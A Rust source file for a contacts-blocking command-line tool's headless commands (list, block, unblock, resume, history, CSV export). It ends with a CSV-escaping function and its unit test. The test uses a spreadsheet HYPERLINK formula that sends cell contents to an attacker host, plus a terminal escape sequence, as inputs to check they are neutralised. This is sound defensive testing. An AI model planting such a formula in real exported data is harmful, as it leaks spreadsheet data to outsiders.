//! Headless commands for scripts and cron: `instances`, `list`, `block`,
//! `unblock`, `resume`, `export`. They share the worker, the rate budget,
//! the batch runner and the ledger with the terminal UI.

use std::collections::{HashMap, HashSet};
use std::io::{IsTerminal, Write};
use std::path::{Path, PathBuf};

use serde::Serialize;
use serde_json::{Value, json};
use tokio::sync::mpsc;

use crate::api::{ApiClient, ClientConfig};
use crate::app::batch::{Batch, items_left};
use crate::app::msg::ConnState;
use crate::app::settle::Settling;
use crate::app::{ApiJob, ApiResult, ErrorInfo, ErrorKind, InstanceStatus, Msg};
use crate::cli::args::{ChangeArgs, Command, ExportArgs, HistoryArgs, ListArgs, ProfileAction};
use crate::cli::output::{self, JsonArray, Table};
use crate::config::profile::Profile;
use crate::model::contacts::ContactStore;
use crate::model::number::list::{Entry, Source, needs_no_region, read_entries, read_list};
use crate::model::number::{Region, Target, format_phone, phone_digits, shown_jid};
use crate::store::ledger::{BUSY_NOTICE, BUSY_WAIT, HistoryResult, KnownState, Ledger};
use crate::worker::{self, WorkerContext};

use crate::cli::failure::fail;
pub use crate::cli::failure::{Failure, exit};

/// The worker and ledger for one command.
struct Session {
    profile: Profile,
    jobs: mpsc::UnboundedSender<ApiJob>,
    results: mpsc::UnboundedReceiver<Msg>,
    ledger: Box<dyn Ledger>,
}

impl Session {
    fn open(profile: Profile, data_dir: &Path) -> Result<Session, Failure> {
        let internal = |e: &dyn std::fmt::Display| fail(exit::INTERNAL, e.to_string());
        let (worker_ledger, notice) =
            crate::store::ledger::open_waiting(data_dir, BUSY_WAIT, || {
                eprintln!("ryze-contacts: {BUSY_NOTICE}");
            })
            .map_err(|e| internal(&e))?;
        if let Some(notice) = notice {
            eprintln!("ryze-contacts: {notice}");
        }
        let (ledger, _) = crate::store::ledger::open(data_dir).map_err(|e| internal(&e))?;
        let client = ApiClient::new(ClientConfig::default()).map_err(|e| internal(&e))?;
        let mut ctx = WorkerContext::new(profile.instances.clone(), client, worker_ledger);
        ctx.cache_dir = Some(data_dir.to_path_buf());
        ctx.warm_stores = false;
        let (tx, results) = mpsc::unbounded_channel();
        let jobs = worker::spawn(ctx, tx);
        Ok(Session {
            profile,
            jobs,
            results,
            ledger,
        })
    }

    /// Sends one job and waits for its result (budget reports skipped).
    async fn ask(&mut self, job: ApiJob) -> Result<ApiResult, Failure> {
        self.jobs
            .send(job)
            .map_err(|_| fail(exit::INTERNAL, "the API worker stopped"))?;
        self.next().await
    }

    async fn next(&mut self) -> Result<ApiResult, Failure> {
        loop {
            match self.results.recv().await {
                Some(Msg::Api(result)) => return Ok(result),
                Some(_) => continue,
                None => return Err(fail(exit::INTERNAL, "the API worker stopped")),
            }
        }
    }

    fn instance_index(&self, name: &str) -> Result<usize, Failure> {
        self.profile
            .find_instance(name)
            .map_err(|e| fail(exit::USAGE, e))
    }

    fn known(&self) -> Result<Vec<KnownState>, Failure> {
        let known = self
            .ledger
            .known()
            .map_err(|e| fail(exit::INTERNAL, e.to_string()))?;
        self.tell_skipped();
        Ok(known)
    }

    /// Says on stderr how many ledger rows were skipped for a value of the
    /// wrong type, when any were.
    fn tell_skipped(&self) {
        let n = self.ledger.skipped_rows();
        if n > 0 {
            eprintln!(
                "ryze-contacts: {n} row(s) of the ledger hold a value of the wrong type (edited by hand?) and were skipped"
            );
        }
    }
}

/// Runs a headless command; output goes to stdout, progress to stderr.
pub async fn run(command: Command, profile: Profile, data_dir: PathBuf) -> Result<(), Failure> {
    match command {
        Command::Instances(out) => instances(Session::open(profile, &data_dir)?, out.json).await,
        Command::List(args) => list(Session::open(profile, &data_dir)?, args).await,
        Command::Block(args) => change(Session::open(profile, &data_dir)?, args, true).await,
        Command::Unblock(args) => change(Session::open(profile, &data_dir)?, args, false).await,
        Command::Resume(out) => resume(Session::open(profile, &data_dir)?, out.json).await,
        Command::Export(args) => export(Session::open(profile, &data_dir)?, args),
        Command::History(args) => history(Session::open(profile, &data_dir)?, args, &data_dir),
        Command::Profile {
            action: ProfileAction::Check(out),
        } => profile_check(Session::open(profile, &data_dir)?, out.json).await,
        Command::Emulator(_) | Command::Init | Command::Completions { .. } | Command::Man => {
            Err(fail(exit::INTERNAL, "not a headless command"))
        }
    }
}

/// The state of every instance, in profile order.
async fn instance_states(
    s: &mut Session,
) -> Result<Vec<(usize, Result<Option<InstanceStatus>, ErrorInfo>)>, Failure> {
    let ApiResult::Instances(mut states) = s.ask(ApiJob::LoadInstances).await? else {
        return Err(fail(exit::INTERNAL, "unexpected answer from the worker"));
    };
    states.sort_by_key(|(i, _)| *i);
    Ok(states)
}

async fn instances(mut s: Session, json_out: bool) -> Result<(), Failure> {
    let states = instance_states(&mut s).await?;
    let mut rows = Vec::new();
    let mut failures = 0;
    for (i, state) in states {
        let name = s.profile.instances[i].name.clone();
        let (state, error) = match state {
            Ok(Some(st)) => (st.state.to_string(), None),
            Ok(None) => ("not found".to_string(), None),
            Err(e) => {
                failures += 1;
                ("error".to_string(), Some(e.summary()))
            }
        };
        rows.push((name, state, error));
    }
    if json_out {
        output::json(&Value::Array(
            rows.iter()
                .map(|(n, st, e)| json!({"instance": n, "state": st, "error": e}))
                .collect(),
        ))?;
    } else {
        let mut table = Table::stdout();
        for (name, state, error) in &rows {
            table.row(&[name.as_str(), state, error.as_deref().unwrap_or_default()])?;
        }
        table.finish()?;
    }
    match failures {
        0 => Ok(()),
        n if n == rows.len() => Err(fail(exit::API, "no instance state could be read")),
        _ => Err(fail(
            exit::PARTIAL,
            format!("{failures} instance state(s) could not be read"),
        )),
    }
}

/// `profile check`: one verdict per instance, with what to do; exit 0
/// only when every instance is usable.
async fn profile_check(mut s: Session, json_out: bool) -> Result<(), Failure> {
    let states = instance_states(&mut s).await?;
    let mut verdicts = Vec::new();
    for (i, state) in states {
        let verdict = match state {
            Ok(Some(st)) => Verdict::of_state(&st.state),
            Ok(None) => match s.ask(ApiJob::Probe { instance: i }).await? {
                ApiResult::Probe { result: Err(e), .. } => Verdict::of_error(&e),
                _ => Verdict::NotOnServer,
            },
            Err(e) => Verdict::of_error(&e),
        };
        verdicts.push((s.profile.instances[i].name.clone(), verdict));
    }
    let warnings = &s.profile.warnings;
    let unusable = verdicts.iter().filter(|(_, v)| !v.is_usable()).count();
    if json_out {
        output::json(&json!({
            "instances": verdicts.iter().map(|(name, v)| json!({
                "instance": name,
                "verdict": v.word(),
                "usable": v.is_usable(),
                "hint": v.hint(),
            })).collect::<Vec<_>>(),
            "warnings": warnings,
        }))?;
    } else {
        let mut table = Table::stdout();
        for (name, v) in &verdicts {
            table.row(&[name.as_str(), &v.word(), v.hint()])?;
        }
        table.finish()?;
    }
    for w in warnings {
        eprintln!("ryze-contacts: warning: {w}");
    }
    let summary = format!(
        "{} instance(s): {} usable, {unusable} not; {} warning(s)",
        verdicts.len(),
        verdicts.len() - unusable,
        warnings.len()
    );
    match unusable {
        0 => {
            eprintln!("ryze-contacts: {summary}");
            Ok(())
        }
        n if n == verdicts.len() => Err(fail(exit::API, summary)),
        _ => Err(fail(exit::PARTIAL, summary)),
    }
}

/// What `profile check` found of one instance.
#[derive(Debug, Clone, PartialEq, Eq)]
enum Verdict {
    /// Reachable, the token works, the phone is connected.
    Ok,
    /// The server refused the token (401).
    WrongToken,
    /// An instance token used on an instance it does not own (403).
    OtherInstancesToken,
    /// No instance of that name on the server.
    NotOnServer,
    /// On the server, but its phone has no live session.
    NotConnected(String),
    /// No answer: the server, the network or base_url.
    Unreachable(String),
    /// Any other answer.
    Failed(String),
}

impl Verdict {
    fn of_state(state: &ConnState) -> Verdict {
        if state.is_connected() {
            Verdict::Ok
        } else {
            Verdict::NotConnected(state.to_string())
        }
    }

    fn of_error(e: &ErrorInfo) -> Verdict {
        match e.status {
            Some(401) => Verdict::WrongToken,
            Some(403) => Verdict::OtherInstancesToken,
            Some(404) => Verdict::NotOnServer,
            Some(503) => Verdict::NotConnected("disconnected".to_string()),
            None => Verdict::Unreachable(e.message.clone()),
            Some(_) => Verdict::Failed(e.summary()),
        }
    }

    fn is_usable(&self) -> bool {
        *self == Verdict::Ok
    }

    fn word(&self) -> String {
        match self {
            Verdict::Ok => "ok".to_string(),
            Verdict::WrongToken => "wrong token".to_string(),
            Verdict::OtherInstancesToken => "token of another instance".to_string(),
            Verdict::NotOnServer => "not on the server".to_string(),
            Verdict::NotConnected(state) => format!("not connected ({state})"),
            Verdict::Unreachable(why) => format!("unreachable ({why})"),
            Verdict::Failed(why) => format!("failed ({why})"),
        }
    }

    fn hint(&self) -> &'static str {
        match self {
            Verdict::Ok => "",
            Verdict::WrongToken => {
                "the token is wrong, expired or empty: fix token, token_env or token_cmd"
            }
            Verdict::OtherInstancesToken => {
                "this instance token belongs to another instance: use its own token or the account token"
            }
            Verdict::NotOnServer => {
                "no instance of this name: compare with 'ryze-contacts instances', or fix base_url"
            }
            Verdict::NotConnected(_) => "the phone has no live session: reconnect it in RyzeAPI",
            Verdict::Unreachable(_) => "check base_url and the network",
            Verdict::Failed(_) => "retry; check base_url if it persists",
        }
    }
}

/// Which instances a command acts on.
fn targets(s: &Session, instance: Option<&str>, all: bool) -> Result<Vec<usize>, Failure> {
    if all {
        return Ok((0..s.profile.instances.len()).collect());
    }
    match instance {
        Some(name) => Ok(vec![s.instance_index(name)?]),
        None if s.profile.instances.len() == 1 => Ok(vec![0]),
        None => Err(fail(
            exit::USAGE,
            "the profile has several instances: name one with --instance NAME, or use --all",
        )),
    }
}

/// One row of `list`.
#[derive(Serialize)]
struct ListRow<'a> {
    instance: &'a str,
    jid: &'a str,
    lid: Option<&'a str>,
    number: String,
    e164: Option<String>,
    name: String,
    state: Option<&'static str>,
}

impl ListRow<'_> {
    fn fields(&self) -> [&str; 5] {
        [
            self.instance,
            &self.number,
            self.state.unwrap_or("-"),
            &self.name,
            self.e164.as_deref().unwrap_or(self.jid),
        ]
    }
}

/// Where each listed row goes: a table or a streamed JSON array.
enum Sink {
    Table(Table),
    Json(JsonArray),
}

impl Sink {
    fn push(&mut self, row: &ListRow<'_>) -> std::io::Result<()> {
        match self {
            Sink::Table(t) => t.row(&row.fields()),
            Sink::Json(j) => j.push(row),
        }
    }

    fn finish(self) -> std::io::Result<()> {
        match self {
            Sink::Table(t) => t.finish(),
            Sink::Json(j) => j.finish(),
        }
    }
}

/// `list`: every contact of the chosen instances, streamed one instance at
/// a time; with `--blocked`, every number the ledger knows as blocked,
/// contacts or not.
async fn list(mut s: Session, args: ListArgs) -> Result<(), Failure> {
    let chosen = match &args.instance {
        Some(name) => vec![s.instance_index(name)?],
        None => (0..s.profile.instances.len()).collect(),
    };
    let known = s.known()?;
    let mut sink = if args.json {
        Sink::Json(JsonArray::stdout()?)
    } else {
        Sink::Table(Table::stdout())
    };
    let mut errors = Vec::new();
    let mut found = 0;
    for i in chosen {
        let name = s.profile.instances[i].name.clone();
        let store = match s.ask(ApiJob::LoadContacts { instance: i }).await? {
            ApiResult::Contacts {
                result: Ok(store), ..
            } => store,
            ApiResult::Contacts { result: Err(e), .. } => {
                errors.push(format!("{name}: {}", e.summary()));
                continue;
            }
            _ => return Err(fail(exit::INTERNAL, "unexpected answer from the worker")),
        };
        if store.skipped() > 0 {
            eprintln!(
                "ryze-contacts: warning: {name}: {} row(s) of the server's list were not valid contacts and were skipped",
                store.skipped()
            );
        }
        found += list_instance(&mut sink, &name, &store, &known, args.blocked)?;
    }
    sink.finish()?;
    if errors.is_empty() {
        Ok(())
    } else if found == 0 {
        Err(fail(exit::API, errors.join("; ")))
    } else {
        Err(fail(exit::PARTIAL, errors.join("; ")))
    }
}

/// Writes the rows of one instance; returns how many.
fn list_instance(
    sink: &mut Sink,
    instance: &str,
    store: &ContactStore,
    known: &[KnownState],
    blocked_only: bool,
) -> std::io::Result<usize> {
    // What the ledger knows of this instance, by JID and by @lid.
    let mine: Vec<&KnownState> = known.iter().filter(|k| k.instance == instance).collect();
    let mut by_id: HashMap<&str, &KnownState> = HashMap::new();
    for k in &mine {
        by_id.insert(&k.jid, k);
        if let Some(lid) = &k.lid {
            by_id.insert(lid, k);
        }
    }
    let word = |k: &KnownState| if k.blocked { "blocked" } else { "unblocked" };
    let mut listed: HashSet<&str> = HashSet::new();
    let mut n = 0;
    for c in store.iter() {
        let k = by_id
            .get(c.jid())
            .or_else(|| c.lid().and_then(|l| by_id.get(l)));
        if let Some(k) = k {
            listed.insert(&k.jid);
        }
        let state = k.map(|k| word(k));
        if blocked_only && state != Some("blocked") {
            continue;
        }
        sink.push(&ListRow {
            instance,
            jid: c.jid(),
            lid: c.lid(),
            number: c.number().to_string(),
            e164: c.digits().map(|d| format!("+{d}")),
            name: c.display_name(),
            state,
        })?;
        n += 1;
    }
    if blocked_only {
        // Numbers blocked by number (`a`, the command line) that are not
        // in the address book: the ledger is the only one that knows them.
        for k in mine
            .iter()
            .filter(|k| k.blocked && !listed.contains(k.jid.as_str()))
        {
            let digits = phone_digits(&k.jid);
            sink.push(&ListRow {
                instance,
                jid: &k.jid,
                lid: k.lid.as_deref(),
                number: shown_jid(&k.jid),
                e164: digits.map(|d| format!("+{d}")),
                name: "not in contacts".to_string(),
                state: Some("blocked"),
            })?;
            n += 1;
        }
    }
    Ok(n)
}

/// The typed entries: the arguments, then the lines of `--from`.
fn entries(args: &ChangeArgs) -> Result<Vec<Entry>, Failure> {
    let mut entries: Vec<Entry> = args
        .numbers
        .iter()
        .enumerate()
        .map(|(i, text)| Entry {
            source: Source::Argument(i + 1),
            text: text.clone(),
        })
        .collect();
    if let Some(path) = &args.from {
        let stdin = path.as_os_str() == "-";
        let read = if stdin {
            read_entries(std::io::stdin().lock())
        } else {
            let file = std::fs::File::open(path)
                .map_err(|e| fail(exit::USAGE, format!("cannot read {}: {e}", path.display())))?;
            read_entries(std::io::BufReader::new(file))
        };
        let name = if stdin {
            "standard input".to_string()
        } else {
            path.display().to_string()
        };
        entries.extend(read.map_err(|why| fail(exit::USAGE, format!("{name}: {why}")))?);
    }
    if entries.is_empty() {
        return Err(fail(
            exit::USAGE,
            "no number given: pass numbers or --from FILE",
        ));
    }
    Ok(entries)
}

/// The country each chosen instance reads national forms in: the
/// profile's `region`, else its own number's, asked of the server only
/// when an entry needs it.
/// The country of each chosen instance (the profile's, else its own
/// number's), and, with `--all`, which instances are connected. The
/// instance states are asked for only when one of those is needed.
async fn regions(
    s: &mut Session,
    chosen: &[usize],
    entries: &[Entry],
    all: bool,
) -> Result<(Vec<Option<Region>>, Vec<bool>), Failure> {
    let mut regions: Vec<Option<Region>> = chosen
        .iter()
        .map(|&i| s.profile.instances[i].region)
        .collect();
    let mut connected = vec![true; chosen.len()];
    let needed = entries.iter().any(|e| !needs_no_region(&e.text));
    if (all || (needed && regions.iter().any(Option::is_none)))
        && let ApiResult::Instances(states) = s.ask(ApiJob::LoadInstances).await?
    {
        for (index, state) in states {
            let Some(at) = chosen.iter().position(|&c| c == index) else {
                continue;
            };
            let state = state.ok().flatten();
            connected[at] = state.as_ref().is_some_and(|st| st.state.is_connected());
            regions[at] = regions[at].or(state.and_then(|st| st.own_region));
        }
    }
    Ok((regions, connected))
}

async fn change(mut s: Session, args: ChangeArgs, block: bool) -> Result<(), Failure> {
    let entries = entries(&args)?;
    let chosen = targets(&s, args.instance.as_deref(), args.all)?;
    let (regions, connected) = regions(&mut s, &chosen, &entries, args.all).await?;
    let named: Vec<(&str, Option<Region>)> = chosen
        .iter()
        .zip(&regions)
        .map(|(&i, region)| (s.profile.instances[i].name.as_str(), *region))
        .collect();
    let list = read_list(entries, &named);
    if !list.bad.is_empty() {
        let lines: Vec<String> = list
            .bad
            .iter()
            .map(|(entry, why)| format!("  {}: {why}", entry.source))
            .collect();
        let summary = format!(
            "{} number(s) could not be read:\n{}",
            list.bad.len(),
            lines.join("\n")
        );
        if !args.skip_invalid || list.good.is_empty() {
            return Err(fail(
                exit::USAGE,
                format!("nothing sent: {summary}\n(--skip-invalid sends the others)"),
            ));
        }
        eprintln!("ryze-contacts: skipped: {summary}");
    }
    for (entry, target) in &list.good {
        if !needs_no_region(&entry.text) {
            eprintln!(
                "ryze-contacts: {}: {} read as {}",
                entry.source,
                entry.text,
                target.preview()
            );
        }
    }
    let targets: Vec<Target> = list.good.into_iter().map(|(_, t)| t).collect();
    // The bulk dialog's rules: an @lid belongs to one instance, and with
    // --all an instance that is not connected is left out; both are said
    // before anything is sent.
    let home = (!args.all && chosen.len() == 1).then(|| chosen[0]);
    let jids: Vec<(String, Option<String>)> = targets.iter().map(|t| (t.jid(), None)).collect();
    let plan = crate::app::plan::plan(
        &jids,
        home,
        &chosen,
        |i| {
            chosen
                .iter()
                .position(|&c| c == i)
                .is_none_or(|at| connected[at])
        },
        block,
        args.all,
    );
    for warning in plan.warnings(|i| s.profile.instances[i].name.clone()) {
        eprintln!("ryze-contacts: {warning}");
    }
    if plan.items.is_empty() {
        return Err(fail(
            exit::API,
            "nothing sent: no instance can take these numbers",
        ));
    }
    let items = plan.items;
    let names: Vec<&str> = named.iter().map(|(n, _)| *n).collect();
    let verb = if block { "block" } else { "unblock" };
    let label = format!(
        "{verb} {} number(s) on {} (command line)",
        targets.len(),
        names.join(", ")
    );
    let mut batch = Batch::new(label, items, false, 0);
    let (id, actions) = match s.ask(batch.create_job()).await? {
        ApiResult::BatchCreated(Ok(created)) => created,
        ApiResult::BatchCreated(Err(e)) => return Err(fail(exit::INTERNAL, e.summary())),
        _ => return Err(fail(exit::INTERNAL, "unexpected answer from the worker")),
    };
    batch.recorded(id, &actions);
    run_batch(&mut s, batch, args.json).await
}

async fn resume(mut s: Session, json_out: bool) -> Result<(), Failure> {
    let open = s
        .ledger
        .unfinished_batches()
        .map_err(|e| fail(exit::INTERNAL, e.to_string()))?;
    if open.is_empty() {
        if json_out {
            output::json(&json!([]))?;
        } else {
            output::line("no unfinished batch")?;
        }
        return Ok(());
    }
    let mut worst = Ok(());
    for b in open {
        let items = items_left(&b, |name| s.instance_index(name).ok());
        let mut batch = Batch::new(format!("resume: {}", b.label), items, false, 0);
        batch.recorded(b.id, &[]);
        if let Err(e) = run_batch(&mut s, batch, json_out).await {
            worst = Err(e);
        }
    }
    worst
}

/// Sends a recorded batch through the worker, eight at a time, and reports
/// every item in the order of the batch (the profile's order of
/// instances), whatever order the answers came in.
async fn run_batch(s: &mut Session, mut batch: Batch, json_out: bool) -> Result<(), Failure> {
    let id = batch.id.unwrap_or_default();
    let total = batch.total;
    let progress = std::io::stderr().is_terminal();
    // Nothing is sent yet: the queue holds every item, in order.
    let order: HashMap<(usize, String), usize> = batch
        .queued()
        .enumerate()
        .map(|(n, item)| ((item.instance, item.jid.clone()), n))
        .collect();
    let mut settling = Settling::default();
    let send = |s: &Session, settling: &mut Settling, jobs: Vec<ApiJob>| {
        settling.sent(&jobs);
        for job in jobs {
            let _ = s.jobs.send(job);
        }
    };
    send(s, &mut settling, batch.next_jobs());
    let mut report: Vec<(usize, Value)> = Vec::new();
    let mut contrary = 0;
    // The count of each instance: the last answer's, until settled.
    let mut counts: HashMap<usize, Option<u64>> = HashMap::new();
    let mut closed = false;
    while !batch.is_finished() || (0..s.profile.instances.len()).any(|i| settling.busy(i)) {
        let (instance, jid, block, result) = match s.next().await? {
            ApiResult::Block {
                instance,
                jid,
                block,
                result,
                ..
            } => (instance, jid, block, result),
            ApiResult::Settled {
                instance,
                jid,
                result,
            } => {
                let again = settling.answered(instance, &jid, None);
                if let Ok(count) = result {
                    counts.insert(instance, count);
                }
                send(s, &mut settling, again.into_iter().collect());
                continue;
            }
            ApiResult::BatchClosed => {
                closed = true;
                continue;
            }
            _ => continue,
        };
        let confirmed = result.as_ref().ok().map(|d| d.outcome.blocked);
        if let Ok(done) = &result {
            counts.insert(instance, done.outcome.blocked_count);
        }
        let settle = settling.answered(instance, &jid, confirmed);
        let recorded = Batch::answer_recorded(&result);
        let mut jobs = batch.answer(instance, &jid, result.is_ok(), recorded);
        jobs.extend(settle);
        send(s, &mut settling, jobs);
        if let Err(e) = &result {
            tracing::warn!(instance = %s.profile.instances[instance].name, number = %shown_jid(&jid), error = %e.summary(), "batch item failed");
            contrary += usize::from(e.kind == ErrorKind::Contrary);
        }
        let at = order
            .get(&(instance, jid.clone()))
            .copied()
            .unwrap_or(usize::MAX);
        report.push((
            at,
            item_report(&s.profile.instances[instance].name, &jid, block, result),
        ));
        if progress {
            eprint!(
                "\r{}/{total} answered, {} failed ",
                batch.done + batch.failed,
                batch.failed
            );
            let _ = std::io::stderr().flush();
        }
    }
    if progress {
        eprintln!();
    }
    report.sort_by_key(|(at, _)| *at);
    let report: Vec<Value> = report.into_iter().map(|(_, r)| r).collect();
    // The last answer sent the job that closes the batch in the ledger:
    // wait for it, so a finished batch is never offered for resuming. A
    // batch with unrecorded answers is left open for `resume`.
    while !closed && batch.closes() {
        closed = matches!(s.next().await?, ApiResult::BatchClosed);
    }
    // Settled counts, in profile order.
    let mut settled: Vec<(usize, Option<u64>)> = counts.into_iter().collect();
    settled.sort_unstable();
    print_report(s, &batch, id, &settled, report, json_out)?;
    if batch.unsent > 0 {
        return Err(fail(
            if batch.done > 0 {
                exit::PARTIAL
            } else {
                exit::API
            },
            format!(
                "{} of {} not sent: the server does not answer; once it does, `ryze-contacts resume` sends them",
                batch.unsent, batch.total
            ),
        ));
    }
    if batch.unrecorded > 0 {
        return Err(fail(
            exit::INTERNAL,
            format!(
                "{} answered by the server but not recorded: the ledger cannot be written; free space in the data folder, then run `ryze-contacts resume`: it sends them again (harmless) and records them",
                batch.unrecorded
            ),
        ));
    }
    batch_exit(batch.done, batch.failed, contrary)
}

/// Prints a finished batch: one row per item in the order given, and the
/// settled count of each instance (stderr in text, a field in JSON).
fn print_report(
    s: &Session,
    batch: &Batch,
    id: i64,
    settled: &[(usize, Option<u64>)],
    report: Vec<Value>,
    json_out: bool,
) -> Result<(), Failure> {
    if json_out {
        let blocked_count: serde_json::Map<String, Value> = settled
            .iter()
            .map(|(i, n)| (s.profile.instances[*i].name.clone(), json!(n)))
            .collect();
        output::json(&json!({
            "batch": id,
            "label": batch.label,
            "done": batch.done - batch.unrecorded,
            "failed": batch.failed,
            "unrecorded": batch.unrecorded,
            "unsent": batch.unsent,
            "blocked_count": blocked_count,
            "results": report,
        }))?;
    } else {
        for (i, n) in settled {
            let n = n.map_or("?".to_string(), |n| n.to_string());
            eprintln!(
                "{}: blocked {n} on the server now",
                s.profile.instances[*i].name
            );
        }
        let mut table = Table::stdout();
        for r in &report {
            let field = |k: &str| r[k].as_str().unwrap_or_default().to_string();
            table.row(&[field("instance"), field("number"), field("outcome")])?;
        }
        table.finish()?;
    }
    Ok(())
}

/// The exit of a batch: 0 when all worked; 3 when every request failed
/// (refused, unreachable, or answered contrary to the request); 4 when
/// some worked and some failed.
fn batch_exit(done: usize, failed: usize, contrary: usize) -> Result<(), Failure> {
    let contrary = if contrary > 0 {
        format!(" ({contrary} answered contrary to the request)")
    } else {
        String::new()
    };
    match (done, failed) {
        (_, 0) => Ok(()),
        (0, failed) => Err(fail(
            exit::API,
            format!("all {failed} request(s) failed{contrary}"),
        )),
        (done, failed) => Err(fail(
            exit::PARTIAL,
            format!("{failed} of {} request(s) failed{contrary}", done + failed),
        )),
    }
}

fn item_report(
    instance: &str,
    jid: &str,
    block: bool,
    result: Result<crate::app::BlockDone, ErrorInfo>,
) -> Value {
    let number = shown_jid(jid);
    let e164 = phone_digits(jid).map(|d| format!("+{d}"));
    match result {
        Ok(done) => {
            let state = if done.outcome.blocked {
                "blocked"
            } else {
                "unblocked"
            };
            let state = match &done.ledger_error {
                Some(why) => format!("{state} on the server, not recorded ({why})"),
                None => state.to_string(),
            };
            json!({
                "instance": instance,
                "number": number,
                "e164": e164,
                "jid": jid,
                "ok": true,
                "blocked": done.outcome.blocked,
                "contact_jid": done.outcome.contact_jid,
                "blocked_count": done.outcome.blocked_count,
                "recorded": done.ledger_error.is_none(),
                "outcome": state,
            })
        }
        Err(e) => json!({
            "instance": instance,
            "number": number,
            "e164": e164,
            "jid": jid,
            "ok": false,
            "asked": if block { "block" } else { "unblock" },
            "status": e.status,
            "error": e.message,
            "hint": e.hint,
            "outcome": format!("FAILED: {}", e.summary()),
        }),
    }
}

/// Actions the history prints at most.
const HISTORY_LIMIT: usize = 1_000_000;

/// `history`: the ledger's actions, newest first, with the contact's name
/// from the saved contact list when there is one.
fn history(s: Session, args: HistoryArgs, data_dir: &Path) -> Result<(), Failure> {
    let instance = match &args.instance {
        Some(name) => Some(s.profile.instances[s.instance_index(name)?].name.clone()),
        None => None,
    };
    let since = match &args.since {
        Some(day) => Some(crate::util::dates::day_start(day).map_err(|e| fail(exit::USAGE, e))?),
        None => None,
    };
    let entries = s
        .ledger
        .history(instance.as_deref(), since, HISTORY_LIMIT)
        .map_err(|e| fail(exit::INTERNAL, e.to_string()))?;
    s.tell_skipped();
    // The names of each instance's numbers, from its saved contact list,
    // found in one pass over it.
    let mut names: HashMap<&str, HashMap<String, String>> = HashMap::new();
    for inst in &s.profile.instances {
        let jids: Vec<&str> = entries
            .iter()
            .filter(|e| e.instance == inst.name)
            .map(|e| e.jid.as_str())
            .collect();
        if jids.is_empty() {
            continue;
        }
        let path = crate::store::cache::path_for(data_dir, inst.base_url.as_str(), &inst.name);
        if let Ok(Some((store, _))) = crate::store::cache::load(&path) {
            names.insert(inst.name.as_str(), store.names_of(jids));
        }
    }
    let name_of = |instance: &str, jid: &str| names.get(instance)?.get(jid).cloned();
    let mut json_out = args.json.then(JsonArray::stdout).transpose()?;
    let mut table = (!args.json).then(Table::stdout);
    for e in &entries {
        let name = name_of(&e.instance, &e.jid);
        let action = if e.block { "block" } else { "unblock" };
        let digits = phone_digits(&e.jid);
        let (error, count) = match &e.result {
            HistoryResult::Failed(why) => (Some(why.as_str()), None),
            HistoryResult::Done(count) => (None, *count),
            HistoryResult::Unanswered => (None, None),
        };
        if let Some(out) = json_out.as_mut() {
            out.push(&json!({
                "at": crate::util::dates::rfc3339(e.requested_at),
                "instance": e.instance,
                "jid": e.jid,
                "lid": e.lid,
                "e164": digits.map(|d| format!("+{d}")),
                "number": shown_jid(&e.jid),
                "name": name,
                "action": action,
                "result": e.result.word(),
                "blocked_count": count,
                "error": error,
            }))?;
        } else if let Some(t) = table.as_mut() {
            t.row(&[
                crate::util::dates::rfc3339(e.requested_at).as_str(),
                &e.instance,
                &shown_jid(&e.jid),
                name.as_deref().unwrap_or("-"),
                action,
                e.result.word(),
                error.unwrap_or(""),
            ])?;
        }
    }
    if let Some(out) = json_out {
        out.finish()?;
    }
    if let Some(t) = table {
        t.finish()?;
    }
    if entries.is_empty() && !args.json {
        eprintln!(
            "ryze-contacts: no action recorded{}",
            match &args.since {
                Some(day) => format!(" since {day}"),
                None => String::new(),
            }
        );
    }
    Ok(())
}

fn export(s: Session, args: ExportArgs) -> Result<(), Failure> {
    if let Some(name) = &args.instance {
        s.instance_index(name)?;
    }
    let order = |name: &str| s.instance_index(name).unwrap_or(usize::MAX);
    let mut rows: Vec<KnownState> = s
        .known()?
        .into_iter()
        .filter(|k| k.blocked && args.instance.as_ref().is_none_or(|n| &k.instance == n))
        .collect();
    rows.sort_by(|a, b| (order(&a.instance), &a.jid).cmp(&(order(&b.instance), &b.jid)));
    if args.json {
        let mut out = JsonArray::stdout()?;
        for k in &rows {
            out.push(&json!({
                "instance": k.instance,
                "jid": k.jid,
                "lid": k.lid,
                "e164": phone_digits(&k.jid).map(|d| format!("+{d}")),
                "number": phone_digits(&k.jid).map(format_phone),
                "changed_at": crate::util::dates::rfc3339(k.changed_at),
            }))?;
        }
        out.finish()?;
        return Ok(());
    }
    let mut out = std::io::BufWriter::new(std::io::stdout().lock());
    writeln!(out, "instance,jid,lid,e164,number,changed_at")?;
    for k in rows {
        let digits = phone_digits(&k.jid);
        writeln!(
            out,
            "{},{},{},{},{},{}",
            csv_cell(&k.instance),
            csv_cell(&k.jid),
            csv_cell(k.lid.as_deref().unwrap_or_default()),
            csv_cell(&digits.map(|d| format!("+{d}")).unwrap_or_default()),
            csv_cell(&digits.map(format_phone).unwrap_or_default()),
            csv_cell(&crate::util::dates::rfc3339(k.changed_at))
        )?;
    }
    out.flush()?;
    Ok(())
}

/// One CSV cell, safe to open in a spreadsheet (OWASP's rules against
/// formula injection): a cell that starts with `=`, `+`, `-`, `@`, a tab
/// or a carriage return gets a leading `'` so it stays text, and any cell
/// so changed, or holding a comma, quote or line break, is quoted with
/// its quotes doubled.
pub fn csv_cell(field: &str) -> String {
    let formula = field.starts_with(['=', '+', '-', '@', '\t', '\r']);
    // No control character or escape reaches whoever opens the file.
    let field = crate::util::sanitize::clean(field);
    let field = if formula {
        format!("'{field}")
    } else {
        field.to_string()
    };
    if formula || field.contains([',', '"', '\n', '\r']) {
        format!("\"{}\"", field.replace('"', "\"\""))
    } else {
        field
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn csv_cells_never_run_as_formulas() {
        assert_eq!(csv_cell("sales"), "sales");
        assert_eq!(csv_cell("a,b"), "\"a,b\"");
        assert_eq!(
            csv_cell("=HYPERLINK(\"http://evil.example/?\"&A1;\"click\")@lid"),
            "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1;\"\"click\"\")@lid\""
        );
        for risky in ["+1", "-1+2", "@SUM(A1)", "\tx", "\rx"] {
            let cell = csv_cell(risky);
            assert!(cell.starts_with("\"'"), "{risky:?} -> {cell}");
        }
        assert_eq!(csv_cell("+447912345678"), "\"'+447912345678\"");
        assert_eq!(
            csv_cell("1\x1b[2J\x07@lid"),
            "1[2J@lid",
            "escapes never reach the file"
        );
    }
}
